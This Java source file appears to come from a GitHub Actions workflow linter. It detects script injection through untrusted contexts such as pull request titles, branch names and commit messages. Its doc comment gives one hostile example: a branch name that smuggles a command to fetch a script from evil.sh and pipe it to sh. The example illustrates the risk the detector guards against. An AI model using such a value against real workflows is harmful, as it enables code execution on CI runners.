package io.gpukit.core.workflow;

import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The contexts whose text someone outside the repository writes, as actionlint's expression-injection
 * check lists them: a pull request's title, body and head branch, issue, comment, review and
 * discussion text, commit messages and authors, wiki page names, label names, and the same of a
 * followed {@code workflow_run}. Expanded by {@code ${{ }}} into a script, such text is code: a
 * branch named {@code a";curl${IFS}evil.sh|sh;"} runs.
 *
 * <p>What is not injection: a property an outsider cannot choose ({@code github.sha}, {@code
 * github.event.pull_request.number}, {@code github.event.pull_request.head.sha}); a whole object
 * ({@code toJSON(github.event)}, as actionlint: only the leaves are text an outsider writes); an
 * untrusted value inside {@code contains}, {@code startsWith} or {@code endsWith}, which give a
 * boolean; and of course a value passed through {@code env:} and read as {@code "$TITLE"}, which
 * the shell does not parse as code. Conditions ({@code if:}) are expressions, not scripts, and are
 * not read here.
 */
final class UntrustedInput {

  /** Paths of untrusted leaves; {@code *} is any one property or element. */
  private static final List<List<String>> UNTRUSTED = paths(
      "github.head_ref",
      "github.event.issue.title",
      "github.event.issue.body",
      "github.event.issue.labels.*.name",
      "github.event.pull_request.title",
      "github.event.pull_request.body",
      "github.event.pull_request.head.ref",
      "github.event.pull_request.head.label",
      "github.event.pull_request.head.repo.default_branch",
      "github.event.pull_request.labels.*.name",
      "github.event.label.name",
      "github.event.comment.body",
      "github.event.review.body",
      "github.event.review_comment.body",
      "github.event.pages.*.page_name",
      "github.event.commits.*.message",
      "github.event.commits.*.author.email",
      "github.event.commits.*.author.name",
      "github.event.head_commit.message",
      "github.event.head_commit.author.email",
      "github.event.head_commit.author.name",
      "github.event.discussion.title",
      "github.event.discussion.body",
      "github.event.workflow_run.head_branch",
      "github.event.workflow_run.display_title",
      "github.event.workflow_run.head_commit.message",
      "github.event.workflow_run.head_commit.author.email",
      "github.event.workflow_run.head_commit.author.name",
      "github.event.workflow_run.pull_requests.*.head.ref");

  /** Functions whose result an outsider cannot shape (a boolean). */
  private static final Set<String> SAFE_FUNCTIONS = Set.of("contains", "startswith", "endswith");

  private static final Pattern TEMPLATE = Pattern.compile("(?s)\\$\\{\\{(.*?)}}");
  private static final int MAX_TEXT = 1 << 16;

  private UntrustedInput() {}

  private static List<List<String>> paths(String... written) {
    List<List<String>> out = new ArrayList<>();
    for (String w : written) {
      out.add(List.of(w.split("\\.")));
    }
    return List.copyOf(out);
  }

  /**
   * The untrusted contexts a text expands with {@code ${{ }}}, as written in the expression (lower
   * case, {@code ['x']} read as {@code .x}), in order and each once.
   */
  static List<String> in(String text) {
    Set<String> found = new LinkedHashSet<>();
    Matcher m = TEMPLATE.matcher(text.length() > MAX_TEXT ? text.substring(0, MAX_TEXT) : text);
    while (m.find()) {
      scan(m.group(1), found);
    }
    return List.copyOf(found);
  }

  /** Whether a text expands one of the given contexts (exact paths, lower case). */
  static boolean expands(String text, Set<String> contexts) {
    Set<String> found = new LinkedHashSet<>();
    Matcher m = TEMPLATE.matcher(text.length() > MAX_TEXT ? text.substring(0, MAX_TEXT) : text);
    while (m.find()) {
      allPaths(m.group(1), found);
    }
    return found.stream().anyMatch(contexts::contains);
  }

  private static void scan(String expression, Set<String> found) {
    Set<String> all = new LinkedHashSet<>();
    allPaths(expression, all);
    for (String path : all) {
      if (isUntrusted(path)) {
        found.add(path);
      }
    }
  }

  /** Every {@code github…} path the expression reads outside a safe function. */
  private static void allPaths(String e, Set<String> out) {
    Deque<String> calls = new ArrayDeque<>();
    int i = 0;
    int n = e.length();
    while (i < n) {
      char c = e.charAt(i);
      if (c == '\'') {
        i++;
        while (i < n && !(e.charAt(i) == '\'' && (i + 1 >= n || e.charAt(i + 1) != '\''))) {
          i += e.charAt(i) == '\'' ? 2 : 1;
        }
        i++;
      } else if (Character.isLetter(c) || c == '_') {
        int start = i;
        while (i < n && (Character.isLetterOrDigit(e.charAt(i)) || e.charAt(i) == '_' || e.charAt(i) == '-')) {
          i++;
        }
        String word = e.substring(start, i).toLowerCase(Locale.ROOT);
        int j = skipSpaces(e, i);
        if (j < n && e.charAt(j) == '(') {
          calls.push(word);
          i = j + 1;
        } else if (word.equals("github")) {
          StringBuilder path = new StringBuilder(word);
          i = path(e, i, path);
          if (calls.stream().noneMatch(SAFE_FUNCTIONS::contains)) {
            out.add(path.toString());
          }
        }
      } else if (c == '(') {
        calls.push("");
        i++;
      } else if (c == ')') {
        if (!calls.isEmpty()) {
          calls.pop();
        }
        i++;
      } else {
        i++;
      }
    }
  }

  /** Reads {@code .name}, {@code .*}, {@code ['name']} and {@code [index]} after a context name. */
  private static int path(String e, int i, StringBuilder path) {
    int n = e.length();
    while (i < n) {
      char c = e.charAt(i);
      if (c == '.' && i + 1 < n && e.charAt(i + 1) == '*') {
        path.append(".*");
        i += 2;
      } else if (c == '.') {
        int start = ++i;
        while (i < n && (Character.isLetterOrDigit(e.charAt(i)) || e.charAt(i) == '_' || e.charAt(i) == '-')) {
          i++;
        }
        path.append('.').append(e.substring(start, i).toLowerCase(Locale.ROOT));
      } else if (c == '[') {
        int close = e.indexOf(']', i);
        if (close < 0) {
          return n;
        }
        String inside = e.substring(i + 1, close).strip();
        if (inside.length() >= 2 && inside.startsWith("'") && inside.endsWith("'")) {
          path.append('.').append(inside.substring(1, inside.length() - 1).toLowerCase(Locale.ROOT));
        } else {
          path.append(".*");
        }
        i = close + 1;
      } else {
        return i;
      }
    }
    return i;
  }

  private static int skipSpaces(String e, int i) {
    while (i < e.length() && Character.isWhitespace(e.charAt(i))) {
      i++;
    }
    return i;
  }

  private static boolean isUntrusted(String path) {
    List<String> segments = List.of(path.split("\\."));
    for (List<String> u : UNTRUSTED) {
      if (u.size() == segments.size() && matches(u, segments)) {
        return true;
      }
    }
    return false;
  }

  private static boolean matches(List<String> pattern, List<String> path) {
    for (int k = 0; k < pattern.size(); k++) {
      String p = pattern.get(k);
      String s = path.get(k);
      if (!p.equals(s) && !p.equals("*") && !s.equals("*")) {
        return false;
      }
    }
    return true;
  }
}
